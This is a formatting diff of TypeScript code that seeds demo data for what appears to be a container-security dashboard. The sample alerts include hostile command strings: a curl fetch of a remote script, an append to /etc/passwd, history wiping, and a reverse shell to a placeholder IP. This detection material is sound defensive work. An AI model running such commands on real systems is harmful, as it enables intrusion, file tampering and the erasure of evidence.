@@ -19,35 +19,91 @@ export function demoAlerts(now: Date, image: string): Alert[] {
   // Spread over the last days so the overview's chart has a shape.
   for (let i = 0; i < 6; i++) {
     out.push({
-      id: `demo-rs-${i}`, type: 'system/reverse-shell', severity: 'critical', time: at(30 + i * 600), host: 'node-a',
-      message: 'Reverse shell: bash with stdin/stdout on a TCP socket to 203.0.113.7:4444', rule: 'Reverse shell',
-      process: { pid: 4242 + i, ppid: 4200, name: 'bash', exepath: '/bin/bash', cmdline: 'bash -i', uid: 33, user: 'www-data', parents: [{ pid: 4200, name: 'php-fpm', exepath: '/usr/sbin/php-fpm' }, { pid: 1, name: 'tini' }] },
-      container: ctr, action: { kind: 'alert' }, tags: ['mitre_execution', 'T1059'],
+      id: `demo-rs-${i}`,
+      type: 'system/reverse-shell',
+      severity: 'critical',
+      time: at(30 + i * 600),
+      host: 'node-a',
+      message: 'Reverse shell: bash with stdin/stdout on a TCP socket to 203.0.113.7:4444',
+      rule: 'Reverse shell',
+      process: {
+        pid: 4242 + i,
+        ppid: 4200,
+        name: 'bash',
+        exepath: '/bin/bash',
+        cmdline: 'bash -i',
+        uid: 33,
+        user: 'www-data',
+        parents: [
+          { pid: 4200, name: 'php-fpm', exepath: '/usr/sbin/php-fpm' },
+          { pid: 1, name: 'tini' },
+        ],
+      },
+      container: ctr,
+      action: { kind: 'alert' },
+      tags: ['mitre_execution', 'T1059'],
     });
   }
   for (let i = 0; i < 4; i++) {
     out.push({
-      id: `demo-ap-${i}`, type: 'container/abnormal-process', severity: 'medium', time: at(90 + i * 1500), host: 'node-b',
-      message: 'Process /usr/bin/curl is not in the process whitelist of the image', rule: 'Process whitelist',
-      process: { pid: 5100 + i, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -s http://198.51.100.9/x.sh' }, container: { ...ctr, id: 'b'.repeat(64), name: 'shop-api' },
+      id: `demo-ap-${i}`,
+      type: 'container/abnormal-process',
+      severity: 'medium',
+      time: at(90 + i * 1500),
+      host: 'node-b',
+      message: 'Process /usr/bin/curl is not in the process whitelist of the image',
+      rule: 'Process whitelist',
+      process: { pid: 5100 + i, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -s http://198.51.100.9/x.sh' },
+      container: { ...ctr, id: 'b'.repeat(64), name: 'shop-api' },
     });
   }
   out.push({
-    id: 'demo-sf-1', type: 'container/sensitive-file-access', severity: 'high', time: at(240), host: 'node-a',
-    message: 'Write to protected path /etc/passwd', rule: 'File protection', process: { pid: 6001, name: 'sh', cmdline: 'sh -c echo x >> /etc/passwd' }, container: ctr,
+    id: 'demo-sf-1',
+    type: 'container/sensitive-file-access',
+    severity: 'high',
+    time: at(240),
+    host: 'node-a',
+    message: 'Write to protected path /etc/passwd',
+    rule: 'File protection',
+    process: { pid: 6001, name: 'sh', cmdline: 'sh -c echo x >> /etc/passwd' },
+    container: ctr,
   });
   out.push({
-    id: 'demo-hc-1', type: 'system/high-risk-command', severity: 'high', time: at(60 * 26), host: 'node-b',
-    message: 'History wiping: history -c', rule: 'High-risk command', process: { pid: 7001, name: 'bash', cmdline: 'bash -c history -c' },
+    id: 'demo-hc-1',
+    type: 'system/high-risk-command',
+    severity: 'high',
+    time: at(60 * 26),
+    host: 'node-b',
+    message: 'History wiping: history -c',
+    rule: 'High-risk command',
+    process: { pid: 7001, name: 'bash', cmdline: 'bash -c history -c' },
   });
   out.push({
-    id: 'demo-rb-1', type: 'cluster/role-binding', severity: 'high', time: at(60 * 50), host: 'apiserver',
-    message: 'ClusterRoleBinding to cluster-admin created for system:serviceaccount:shop:default', rule: 'Cluster-admin binding',
-    k8s: { auditID: '6f1c1b1e-0000-4000-8000-000000000001', user: 'dev@example.com', verb: 'create', resource: 'clusterrolebindings', name: 'shop-admin', sourceIPs: ['10.0.0.12'], userAgent: 'kubectl/v1.30.0' },
+    id: 'demo-rb-1',
+    type: 'cluster/role-binding',
+    severity: 'high',
+    time: at(60 * 50),
+    host: 'apiserver',
+    message: 'ClusterRoleBinding to cluster-admin created for system:serviceaccount:shop:default',
+    rule: 'Cluster-admin binding',
+    k8s: {
+      auditID: '6f1c1b1e-0000-4000-8000-000000000001',
+      user: 'dev@example.com',
+      verb: 'create',
+      resource: 'clusterrolebindings',
+      name: 'shop-admin',
+      sourceIPs: ['10.0.0.12'],
+      userAgent: 'kubectl/v1.30.0',
+    },
   });
   out.push({
-    id: 'demo-bf-1', type: 'user/brute-force', severity: 'medium', time: at(60 * 75), host: 'node-c',
-    message: '25 failed SSH logins for root from 192.0.2.50 within 60 s', rule: 'SSH brute force',
+    id: 'demo-bf-1',
+    type: 'user/brute-force',
+    severity: 'medium',
+    time: at(60 * 75),
+    host: 'node-c',
+    message: '25 failed SSH logins for root from 192.0.2.50 within 60 s',
+    rule: 'SSH brute force',
   });
   return out;
 }
@@ -60,23 +116,81 @@ export async function seedDemoData(ctx: ServerContext, projectId: string, imageI
   const iso = now.toISOString();
   const alerts = demoAlerts(now, imageRef);
   await ingestAlerts(ctx.store, projectId, alerts, async (trx) => {
-    await appendAudit(trx, ctx.store, SYSTEM_ACTOR, { event: 'ingestAlerts', projectId, resourceType: 'alerts', resourceId: '', summary: { count: alerts.length, demo: true } }, now);
+    await appendAudit(
+      trx,
+      ctx.store,
+      SYSTEM_ACTOR,
+      { event: 'ingestAlerts', projectId, resourceType: 'alerts', resourceId: '', summary: { count: alerts.length, demo: true } },
+      now,
+    );
   });
   await db.transaction().execute(async (trx) => {
     const clusterId = newId();
     await trx.insertInto('clusters').values({ id: clusterId, project_id: projectId, name: 'demo-cluster', protected: 0, created_at: iso }).execute();
-    await appendAudit(trx, ctx.store, SYSTEM_ACTOR, { event: 'addCluster', projectId, resourceType: 'cluster', resourceId: clusterId, summary: { name: 'demo-cluster', demo: true } }, now);
+    await appendAudit(
+      trx,
+      ctx.store,
+      SYSTEM_ACTOR,
+      { event: 'addCluster', projectId, resourceType: 'cluster', resourceId: clusterId, summary: { name: 'demo-cluster', demo: true } },
+      now,
+    );
     await trx.updateTable('clusters').set({ protected: 1 }).where('id', '=', clusterId).execute();
     await appendAudit(trx, ctx.store, SYSTEM_ACTOR, { event: 'openClusterProtect', projectId, resourceType: 'cluster', resourceId: clusterId }, now);
-    for (const [hostname, status] of [['node-a', 'online'], ['node-b', 'online'], ['node-c', 'offline']] as const) {
-      await trx.insertInto('nodes').values({ id: newId(), project_id: projectId, cluster_id: clusterId, hostname, status, version: '0.1.0', last_seen: new Date(now.getTime() - (status === 'online' ? 20_000 : 3 * 3600_000)).toISOString(), created_at: iso }).execute();
+    for (const [hostname, status] of [
+      ['node-a', 'online'],
+      ['node-b', 'online'],
+      ['node-c', 'offline'],
+    ] as const) {
+      await trx
+        .insertInto('nodes')
+        .values({
+          id: newId(),
+          project_id: projectId,
+          cluster_id: clusterId,
+          hostname,
+          status,
+          version: '0.1.0',
+          last_seen: new Date(now.getTime() - (status === 'online' ? 20_000 : 3 * 3600_000)).toISOString(),
+          created_at: iso,
+        })
+        .execute();
     }
     const policyId = newId();
     const document = { processWhitelist: { executables: ['/usr/local/bin/node', '/bin/sh'], learn: '10m' } };
-    await trx.insertInto('policies').values({ id: policyId, project_id: projectId, name: 'demo-app-processes', kind: 'process-whitelist', mode: 'alert', document: JSON.stringify(document), created_at: iso, updated_at: iso }).execute();
-    await appendAudit(trx, ctx.store, SYSTEM_ACTOR, { event: 'addPolicy', projectId, resourceType: 'policy', resourceId: policyId, summary: { name: 'demo-app-processes', kind: 'process-whitelist', demo: true } }, now);
+    await trx
+      .insertInto('policies')
+      .values({
+        id: policyId,
+        project_id: projectId,
+        name: 'demo-app-processes',
+        kind: 'process-whitelist',
+        mode: 'alert',
+        document: JSON.stringify(document),
+        created_at: iso,
+        updated_at: iso,
+      })
+      .execute();
+    await appendAudit(
+      trx,
+      ctx.store,
+      SYSTEM_ACTOR,
+      {
+        event: 'addPolicy',
+        projectId,
+        resourceType: 'policy',
+        resourceId: policyId,
+        summary: { name: 'demo-app-processes', kind: 'process-whitelist', demo: true },
+      },
+      now,
+    );
     await trx.insertInto('policy_images').values({ policy_id: policyId, image_id: imageId, created_at: iso }).execute();
-    await appendAudit(trx, ctx.store, SYSTEM_ACTOR, { event: 'imageApplyPolicy', projectId, resourceType: 'policy', resourceId: policyId, summary: { imageIds: [imageId] } }, now);
+    await appendAudit(
+      trx,
+      ctx.store,
+      SYSTEM_ACTOR,
+      { event: 'imageApplyPolicy', projectId, resourceType: 'policy', resourceId: policyId, summary: { imageIds: [imageId] } },
+      now,
+    );
   });
   return true;
 }
